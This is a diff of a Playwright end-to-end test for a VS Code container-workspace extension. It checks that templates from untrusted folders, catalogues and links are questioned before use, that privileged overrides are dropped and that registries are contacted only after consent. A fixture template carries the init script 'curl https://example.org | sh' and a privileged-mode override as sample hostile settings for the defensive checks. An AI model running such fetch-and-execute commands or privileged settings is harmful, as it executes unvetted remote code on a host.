@@ -1,17 +1,28 @@
-/** Templates in real VS Code: a repository is offered, a workspace is kept as one, carried away in a file, brought back, and used. */
+/**
+ * Templates in real VS Code: a repository that is trusted is offered; a workspace is kept as one, carried away in a file, brought
+ * back, and used; those of links and catalogues say first what they want.
+ */
 import assert from 'node:assert/strict';
-import { mkdir, readFile, writeFile } from 'node:fs/promises';
+import { copyFile, mkdir, readFile, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:https';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import type { Locator } from 'playwright-core';
+import { Scene } from '../integration/targets/support/folder.ts';
+import { makeCertificates } from '../integration/targets/support/tlsFront.ts';
 import { eventually } from '../support/command.ts';
 import { Session } from './session.ts';
 import type { Workbench } from './workbench.ts';
 
 const themes = {
-  light: [{ colorScheme: 'light', forcedColors: 'none' }, '.monaco-workbench.vs'],
-  dark: [{ colorScheme: 'dark', forcedColors: 'none' }, '.monaco-workbench.vs-dark'],
-  contrast: [{ colorScheme: 'dark', forcedColors: 'active' }, '.monaco-workbench.hc-black'],
+  light: [{ colorScheme: 'light', forcedColors: 'none' }, '.monaco-workbench.vs', 'body.vscode-light'],
+  dark: [{ colorScheme: 'dark', forcedColors: 'none' }, '.monaco-workbench.vs-dark', 'body.vscode-dark'],
+  contrast: [
+    { colorScheme: 'dark', forcedColors: 'active' },
+    '.monaco-workbench.hc-black',
+    'body.vscode-high-contrast',
+  ],
 } as const;
 
 describe('templates', () => {
@@ -19,17 +30,40 @@ describe('templates', () => {
   let window: Workbench;
   let project = '';
   let name = '';
+  let scene: Scene;
+  /** Somebody's: it has a template, and would be the registry of an image. */
+  let server: Server;
+  let host = '';
+  const asked: string[] = [];
   before(async () => {
+    scene = await Scene.make();
+    await makeCertificates(scene);
+    const [cert, key] = await Promise.all(
+      ['server.pem', 'server.key'].map(file => readFile(scene.path(file))),
+    );
+    server = createServer({ ...(cert && { cert }), ...(key && { key }) }, ({ url = '' }, response) => {
+      asked.push(url);
+      if (url === '/lab.json') response.end(JSON.stringify(lab()));
+      else response.writeHead(404).end();
+    });
+    await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
+    host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+    await mkdir(scene.path(`docker/certs.d/${host}`), { recursive: true });
+    await copyFile(scene.path('ca.pem'), scene.path(`docker/certs.d/${host}/ca.crt`));
+    await mkdir(scene.path('catalogue/1.1'), { recursive: true });
     session = await Session.start({
       name: 'templates',
       viewport: { width: 1280, height: 900 },
+      env: { DOCKER_CONFIG: scene.path('docker') },
       settings: {
+        'security.workspace.trust.enabled': true,
+        'security.workspace.trust.startupPrompt': 'never',
+        'berth.catalogues': [{ url: scene.path('catalogue') }],
         'berth.defaults': { '*': { env: { TZ: 'UTC' }, stopGraceSeconds: 3 } },
         'window.autoDetectColorScheme': true,
-        // A tooltip would stand between the pointer and the next row.
-        'workbench.hover.delay': 60_000,
       },
     });
+    await writeFile(scene.path('catalogue/1.1/list.json'), JSON.stringify(catalogue()));
     project = join(session.folder, 'project');
     await write('.git/config', '[remote "origin"]\n\turl = https://token@git.example.org/acme/project.git\n');
     await write(
@@ -61,7 +95,27 @@ describe('templates', () => {
     window = await session.window({ folder: project });
   });
   after(async () => {
+    server?.close();
     await session?.[Symbol.asyncDispose]();
+    await scene?.[Symbol.asyncDispose]();
+  });
+
+  const lab = () => ({
+    name: 'Lab',
+    settings: { image: `${host}/track/me:1`, initScript: 'curl https://example.org | sh', cpus: 1 },
+  });
+  const catalogue = () => ({
+    name: 'Acme Catalogue',
+    workspaces: [],
+    berth: {
+      templates: [
+        {
+          name: 'Deep',
+          description: 'With everything',
+          settings: { image: session.image, memoryMiB: 256, cpus: 1, overrides: { privileged: true } },
+        },
+      ],
+    },
   });
 
   async function write(path: string, text: string): Promise<void> {
@@ -91,7 +145,60 @@ describe('templates', () => {
     });
     return found;
   }
+  /** As from a page or another program: the editor asks on its own account first. */
+  async function follow(link: string): Promise<void> {
+    await window.runCommand('Developer: Open URL');
+    await window.answer(link);
+    const question = window.dialog.getByText('to open this URI');
+    await question.waitFor();
+    await window.dialog.getByRole('button', { name: 'Open', exact: true }).click();
+    // A question of Berth's may follow it at once.
+    await question.waitFor({ state: 'hidden' });
+  }
   const template = (label: string) => window.row('Images', new RegExp(`^${label}, template`));
+
+  it('of a folder that nobody trusts nothing is read or offered, and one that is opened asks', async () => {
+    await window.workspace(name, 'Running').waitFor();
+    await window.showOnly('Images');
+    await window.unfold(window.row('Images', 'Templates'));
+    const unread = window.row(
+      'Images',
+      'The templates of project are not read, because you do not trust the folder',
+    );
+    await unread.waitFor();
+    await template('Deep').waitFor();
+    assert.equal(await template('Team').count(), 0);
+    await window.screenshot('untrusted-tree');
+    await window.runCommand('Berth: Open in a Workspace…');
+    await window.pick(/\.berth\/team\.json/).click();
+    await window.dialog.getByText('Use “Team” of a folder that you do not trust?').waitFor();
+    await window.dialog.getByText(`Image: ${session.image}`).waitFor();
+    await window.screenshot('untrusted-question');
+    await window.answerDialog('Cancel');
+    assert.equal(await window.tab('New workspace').count(), 0);
+    assert.equal(await window.notification('It comes with').count(), 0);
+    await unread.click();
+    await window.page.getByRole('button', { name: 'Trust', exact: true }).click();
+    await window.page.getByText('You trust this folder').waitFor();
+    await window.runCommand('View: Close All Editors');
+    await window.page.getByText('You trust this folder').waitFor({ state: 'hidden' });
+    await notice('It comes with .berth/broken.json');
+    await template('Team').waitFor();
+    await window.screenshot('trusted');
+  });
+
+  it('an offer that was sent away for good comes again once the person says so', async () => {
+    await (await notice('It comes with')).getByRole('button', { name: 'Don’t Ask Again' }).click();
+    await window.notification('It comes with').waitFor({ state: 'hidden' });
+    await window.runCommand('Berth: Ask Again About Repositories…');
+    const row = window.page
+      .locator('.quick-input-list')
+      .getByText('https://git.example.org/acme/project.git');
+    await row.waitFor();
+    await window.screenshot('ask-again');
+    await window.quickInput.press('Enter');
+    await notice('It comes with .berth/broken.json');
+  });
 
   it('a repository that says how it is worked on is offered, and opened by its devcontainer.json', async () => {
     const offer = await notice('It comes with .berth/broken.json');
@@ -115,6 +222,7 @@ describe('templates', () => {
   });
 
   it('a workspace is kept as one, without its name and secrets', async () => {
+    await window.showOnly('Workspaces');
     await window.workspace(name, 'Running').waitFor();
     await window.chooseFromMenu(window.workspace(name), 'Save as Template…');
     await window.page.getByText('The name of the template').waitFor();
@@ -184,6 +292,7 @@ describe('templates', () => {
       await window.page.locator(look).waitFor();
       await window.screenshot(`form-${theme}`);
     }
+    await window.page.emulateMedia(themes.light[0]);
     const made = session.workspaceName('made');
     await form().locator('#f-name').fill(made);
     await form().getByRole('button', { name: 'Add and start' }).click();
@@ -197,5 +306,71 @@ describe('templates', () => {
       .getByRole('heading', { name: `Creating ${made}: done` })
       .waitFor();
     assert.equal(await session.ssh(made, 'echo $FLAVOUR $TOKEN $TZ'), 'mint typed anew UTC');
+  });
+
+  it('one of a catalogue says where it comes from, and what it wants of the engine is allowed or left out', async () => {
+    await window.row('Images', /^Deep, template, .*Acme Catalogue/).click();
+    await window.dialog.getByText('Use the template “Deep”?').waitFor();
+    await window.dialog.getByText('It comes from the catalogue Acme Catalogue.').waitFor();
+    await window.dialog.getByText('Run and exec overrides: Has all rights on the engine’s host').waitFor();
+    await window.screenshot('catalogue-question');
+    await window.answerDialog('Fill In the Form');
+    await form().getByText('Filled in by “Deep” (Acme Catalogue).').waitFor();
+    await window.screenshot('catalogue-form');
+    assert.equal(await originOf('Image'), 'template');
+    const deep = session.workspaceName('deep');
+    await form().locator('#f-name').fill(deep);
+    await form().getByRole('button', { name: 'Add and start' }).click();
+    await window.dialog.getByText('These settings do more than you have allowed').waitFor();
+    await window.dialog.getByText('Has all rights on the engine’s host').waitFor();
+    await window.screenshot('catalogue-trust');
+    await window.answerDialog('Go On Without');
+    await window
+      .webview()
+      .getByRole('heading', { name: `Creating ${deep}: done` })
+      .waitFor();
+    assert.equal(
+      await session.docker('inspect', '-f', '{{.HostConfig.Privileged}}', `berth-${deep}`),
+      'false',
+    );
+  });
+
+  it('a link’s template is asked about twice, and a registry that is not the person’s is left alone until they say so', async () => {
+    await follow(`vscode://berth.berth/create?template=${encodeURIComponent(`https://${host}/lab.json`)}`);
+    await window.dialog.getByText(`Fetch a template from ${host}?`).waitFor();
+    assert.deepEqual([...asked], []);
+    await window.screenshot('link-fetch');
+    await window.answerDialog('Fetch Template');
+    await window.dialog.getByText('Use the template “Lab”?').waitFor();
+    await window.dialog.getByText('Init script: curl https://example.org | sh').waitFor();
+    await window.screenshot('link-question');
+    await window.answerDialog('Fill In the Form');
+    await form().getByText(`Filled in by “Lab” (${host}). A link gave: Image, CPUs, Init script.`).waitFor();
+    await form().getByText(`A link names ${host}, which is none of your registries`).waitFor();
+    await window.runCommand('Notifications: Clear All Notifications');
+    for (const [theme, [media, look, frame]] of Object.entries(themes)) {
+      await window.page.emulateMedia(media);
+      await window.page.locator(look).waitFor();
+      await form().locator(frame).waitFor();
+      await window.screenshot(`link-form-${theme}`);
+    }
+    await window.page.setViewportSize({ width: 700, height: 900 });
+    await window.screenshot('link-form-narrow');
+    await window.page.setViewportSize({ width: 1280, height: 900 });
+    await window.page.emulateMedia(themes.light[0]);
+    assert.deepEqual([...asked], ['/lab.json']);
+    await form().getByRole('button', { name: 'Ask It' }).click();
+    await eventually(async () => asked.some(path => path.startsWith('/v2/')), 'the registry was asked');
+    await form().getByRole('button', { name: 'Ask It' }).waitFor({ state: 'hidden' });
+    await closeForm();
+
+    // The person's own, made into something else by whoever wrote the link.
+    await follow(`vscode://berth.berth/create?template=Mint&image=${host}/other`);
+    await window.dialog
+      .getByText('It is one of yours. A link asks for it, and says itself: Image.')
+      .waitFor();
+    await window.screenshot('link-own');
+    await window.answerDialog('Cancel');
+    assert.equal(await window.tab('New workspace').count(), 0);
   });
 });
